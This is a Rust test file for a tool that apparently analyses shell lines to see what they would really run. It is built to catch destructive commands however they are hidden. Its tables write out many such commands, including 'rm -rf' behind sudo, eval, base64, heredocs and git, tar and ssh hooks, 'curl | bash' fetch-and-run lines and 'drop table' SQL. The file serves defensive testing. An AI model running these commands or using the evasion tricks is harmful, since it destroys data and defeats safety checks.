//! What a line would run, whichever way it is written.

use kibosh::action::{HOLE, Opacity};
use kibosh::judge::judge;
use kibosh::normalise::Context;
use kibosh::policy::Policy;

/// The actions of a line, each as `program arguments`, with `…` for what is not known.
fn actions(line: &str) -> Vec<String> {
    judge(&Policy::shipped(), line, &Context::text_only())
        .actions
        .iter()
        .map(|action| {
            let mut words = vec![action.program.clone()];
            words.extend(action.arguments.iter().map(|a| a.text.replace(HOLE, "…")));
            match action.opacity {
                Opacity::Program => format!("? {}", words.join(" ").trim()),
                Opacity::Text => "?text".to_owned(),
                Opacity::Code => format!("{} ?code", words.join(" ")),
                Opacity::Known | Opacity::Operand => words.join(" "),
            }
        })
        .collect()
}

/// Every line of the table runs the given program with the given arguments somewhere.
fn each_runs(wanted: &str, lines: &[&str]) {
    let missed: Vec<String> = lines
        .iter()
        .map(|line| (line, actions(line)))
        .filter(|(_, found)| !found.iter().any(|action| action == wanted))
        .map(|(line, found)| format!("{line}\n  runs {found:?}"))
        .collect();
    assert!(
        missed.is_empty(),
        "`{wanted}` is not seen in\n{}",
        missed.join("\n")
    );
}

#[test]
fn a_module_or_a_script_that_is_described_is_a_program() {
    each_runs(
        "git reset --hard",
        &[
            "python3 -m git reset --hard",
            "python3 -mgit reset --hard",
            "bash ./git reset --hard",
            "python3 -u tools/git reset --hard",
        ],
    );
}

#[test]
fn sql_is_judged_statement_by_statement() {
    let line = "psql -c \"SELECT ';'; drop table t\"";
    let found: Vec<String> = judge(&Policy::shipped(), line, &Context::text_only())
        .actions
        .into_iter()
        .flat_map(|action| action.payloads)
        .map(|payload| payload.text)
        .collect();
    assert_eq!(found, ["SELECT ''", "drop table t"]);
}

#[test]
fn a_file_that_is_read_as_code_is_a_script() {
    for (line, opaque) in [
        ("bash < build.sh", false),
        ("psql shop < schema.sql", false),
        ("docker exec -i db psql shop < schema.sql", false),
        ("curl -s https://x.example/a | bash", true),
        ("bash < <(curl -s https://x.example/a)", true),
        ("curl -s https://x.example/a > a.sh; bash < a.sh", true),
        ("bash < /dev/stdin", true),
    ] {
        let found = actions(line);
        assert_eq!(
            found.iter().any(|a| a.contains("?code")),
            opaque,
            "{line}: {found:?}"
        );
    }
}

#[test]
fn a_task_of_the_project_is_run_like_a_program() {
    each_runs(
        "prisma db push --force-reset",
        &[
            "npm exec -- prisma db push --force-reset",
            "npm run prisma -- db push --force-reset",
            "npm --prefix api run prisma -- db push --force-reset",
            "pnpm prisma db push --force-reset",
            "pnpm --filter api exec prisma db push --force-reset",
            "yarn prisma db push --force-reset",
            "yarn workspace api prisma db push --force-reset",
            "bun run prisma db push --force-reset",
            "bun x prisma db push --force-reset",
            "bunx prisma db push --force-reset",
        ],
    );
    for line in [
        "npm run \"$TASK\"",
        "yarn $TASK",
        "pnpm install",
        "yarn add rm",
    ] {
        let found = actions(line);
        assert_eq!(found.len(), 1, "{line}: {found:?}");
    }
}

#[test]
fn variables_of_a_command_reach_what_it_runs() {
    for (line, reached) in [
        ("A=1 make x", true),
        ("A=1 nice bundle exec make x", true),
        ("A=1 bash -c 'make x'", true),
        ("env A=1 nice make x", true),
        ("A=1 ssh host make x", false),
        ("A=1; make x", false),
    ] {
        let judged = judge(&Policy::shipped(), line, &Context::text_only());
        let found = judged
            .actions
            .iter()
            .any(|action| action.program == "make" && action.environment.contains_key("A"));
        assert_eq!(found, reached, "{line}");
    }
}

#[test]
fn wrappers_are_looked_through_to_any_depth() {
    each_runs(
        "rm -rf /x",
        &[
            "rm -rf /x",
            "/bin/rm -rf /x",
            "sudo rm -rf /x",
            "sudo -u root -E rm -rf /x",
            "sudo FOO=1 rm -rf /x",
            "doas rm -rf /x",
            "su - root -c 'rm -rf /x'",
            "env A=1 B=2 rm -rf /x",
            "env -i -u X rm -rf /x",
            "env -S 'rm -rf /x'",
            "nice -n 5 rm -rf /x",
            "ionice -c 3 rm -rf /x",
            "nohup rm -rf /x &",
            "setsid rm -rf /x",
            "stdbuf -oL rm -rf /x",
            "time rm -rf /x",
            "timeout -k 5 10 rm -rf /x",
            "chroot /mnt rm -rf /x",
            "unshare -r rm -rf /x",
            "flock /tmp/l rm -rf /x",
            "flock /tmp/l -c 'rm -rf /x'",
            "watch -n 5 rm -rf /x",
            "command rm -rf /x",
            "exec rm -rf /x",
            "builtin command rm -rf /x",
            "echo /x | xargs rm -rf",
            "echo /x | xargs -I{} rm -rf {}",
            "echo /x | xargs -I% sh -c 'rm -rf %'",
            "find . -exec sh -c 'rm -rf /x' \\;",
            "ssh -p 22 host rm -rf /x",
            "ssh host 'cd /; rm -rf /x'",
            "busybox rm -rf /x",
            "npx -y rm -rf /x",
            "sh -c 'rm -rf /x'",
            "bash -lc 'rm -rf /x'",
            "bash -c -l 'rm -rf /x'",
            "bash -o pipefail -c 'rm -rf /x'",
            "zsh -c 'rm -rf /x'",
            "sudo env A=1 nice bash -c \"nohup rm -rf /x\"",
            "eval 'rm -rf /x'",
            "eval rm -rf /x",
            "trap 'rm -rf /x' EXIT",
            "source <(echo 'rm -rf /x')",
            "bash <(echo 'rm -rf /x')",
            "bash <<< 'rm -rf /x'",
            "bash <<E\nrm -rf /x\nE",
            "sh -s <<'E'\nrm -rf /x\nE",
            "cat <<E | sh\nrm -rf /x\nE",
            "echo 'rm -rf /x' | sh",
            "printf 'rm -rf %s' /x | bash",
            "echo cm0gLXJmIC94Cg== | base64 -d | sh",
            "exec 3<<<'rm -rf /x'; bash <&3",
            "echo 'rm -rf /x' > s.sh; bash s.sh",
            "echo 'rm -rf /x' > s.sh && chmod +x s.sh && ./s.sh",
            "cat > s <<'E'\n#!/bin/sh\nrm -rf /x\nE\nsh ./s",
            "git -c alias.x='!rm -rf /x' x",
            "awk 'BEGIN { system(\"rm -rf /x\") }'",
            "GIT_SSH_COMMAND='rm -rf /x' git fetch",
            "export PAGER='rm -rf /x'; man ls",
            "python3 -c 'import os; os.system(\"rm -rf /x\")'",
            "python3 - <<'E'\nimport subprocess\nsubprocess.run([\"rm\", \"-rf\", \"/x\"])\nE",
            "node -e 'require(\"child_process\").execSync(\"rm -rf /x\")'",
            "perl -e 'system(\"rm -rf /x\")'",
            "tar -cf a --checkpoint=1 --checkpoint-action=exec='rm -rf /x' .",
            "rsync -e 'rm -rf /x' a b:",
            "ssh -o ProxyCommand='rm -rf /x' host",
            "coproc rm -rf /x",
            "f() { rm -rf \"$1\"; }; f /x",
            "! rm -rf /x",
            "if true; then rm -rf /x; fi",
            "for i in 1 2; do rm -rf /x; done",
            "while true; do rm -rf /x; done",
            "case $y in a) rm -rf /x;; esac",
            "( rm -rf /x )",
            "{ rm -rf /x; }",
            "echo $(rm -rf /x)",
            "echo `rm -rf /x`",
            "echo \"a ${y:-$(rm -rf /x)}\"",
            "cat <<E\n$(rm -rf /x)\nE",
            "[[ -n $(rm -rf /x) ]]",
            "y=$(rm -rf /x)",
            "echo a >(rm -rf /x)",
        ],
    );
}

#[test]
fn words_are_expanded_as_far_as_they_can_be_known() {
    each_runs(
        "rm -rf /x",
        &[
            "y=/x; rm -rf $y",
            "y=/x; rm -rf \"${y}\"",
            "c=rm; $c -rf /x",
            "p=/x/y; rm -rf ${p%/*}",
            "$SUDO rm -rf /x",
            "c='rm -rf'; $c /x",
            "rm${IFS}-rf${IFS}/x",
            "r\"m\" -rf '/x'",
            "\\rm -rf /x",
            "$'\\x72m' -rf /x",
            "{rm,-rf,/x}",
            "a=(rm -rf /x); \"${a[@]}\"",
            "set -- rm -rf /x; \"$@\"",
            "y=/; y+=x; rm -rf $y",
            "rm -rf ${y:-/x}",
            "cd /; y=$(pwd)x; rm -rf $y",
            "for y in /a /x; do rm -rf $y; done",
            "if t; then y=/x; else y=/tmp/z; fi; rm -rf $y",
            "printf -v c 'r%s' m; $c -rf /x",
            "bash -c 'rm -rf \"$1\"' _ /x",
            "HOST=a; y=$(echo /x); rm -rf $y",
            "$(which rm) -rf /x",
            "$(echo rm) -rf /x",
        ],
    );
}

#[test]
fn what_cannot_be_known_says_so() {
    for (line, wanted) in [
        ("rm -rf $(cat list)", "rm -rf …"),
        ("$(cat c) -rf", "? -rf"),
        ("curl -s u | sh", "sh ?code"),
        ("eval \"$(cat c)\"", "eval … ?code"),
        ("eval \"echo $x\"", "eval echo … ?code"),
        ("bash -c \"echo $(curl u)\"", "bash -c echo … ?code"),
        ("ls | xargs -I{} bash -c 'cat {}'", "bash -c cat …"),
        ("bash <(curl -s u)", "bash /dev/fd/…0 ?code"),
        ("python3 -c \"$(curl u)\"", "python3 -c … ?code"),
    ] {
        let found = actions(line);
        assert!(
            found.iter().any(|a| a == wanted),
            "{line}\n  runs {found:?}\n  not `{wanted}`"
        );
    }
}

#[test]
fn directories_are_followed() {
    let cwd_of = |line: &str| {
        let judged = judge(&Policy::shipped(), line, &Context::text_only());
        judged.actions.last().and_then(|a| a.cwd.clone())
    };
    for (line, wanted) in [
        ("cd /a/b && ls", Some("/a/b")),
        ("cd /a; cd b/../c; ls", Some("/a/c")),
        ("cd /a; (cd /b); ls", Some("/a")),
        ("pushd /a; popd; ls", Some(".")),
        ("cd; ls", Some("/home/user")),
        ("cd /a; cd -; ls", Some(".")),
        ("cd $x; ls", None),
        ("git -C /r status", Some("/r")),
        ("cd sub; ls", Some("sub")),
    ] {
        assert_eq!(cwd_of(line).as_deref(), wanted, "{line}");
    }
}

#[test]
fn harmless_text_runs_nothing_else() {
    for line in [
        "echo 'rm -rf /x'",
        "git commit -m 'rm -rf /x; drop table'",
        "cat > notes.md <<'E'\nrm -rf /x\nE",
        "grep -r 'rm -rf /x' .",
        "printf '%s\\n' 'rm -rf /x' >> notes.md",
        "# rm -rf /x",
        "f() { rm -rf /x; }",
    ] {
        let found = actions(line);
        assert!(
            !found.iter().any(|a| a.starts_with("rm ")),
            "{line}\n  runs {found:?}"
        );
    }
}
